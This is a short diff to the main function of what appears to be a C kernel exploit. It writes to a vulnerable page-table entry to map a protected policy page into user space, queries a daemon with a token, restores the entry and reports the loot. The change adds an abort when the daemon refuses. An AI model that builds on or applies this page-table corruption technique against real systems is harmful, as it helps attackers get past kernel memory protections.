@@ -23,7 +23,8 @@ int main(int argc, char **argv)
 	e = vuln_entry(pid, victim, KPKEYS_VULN_PTE);
 
 	vuln_write(e.addr, phys_of(policy) | info->pte_user);
-	ask_daemon(token);
+	if (!ask_daemon(token))
+		die("the daemon refused");
 	vuln_write(e.addr, e.value | info->sync);
 
 	report_loot(token);
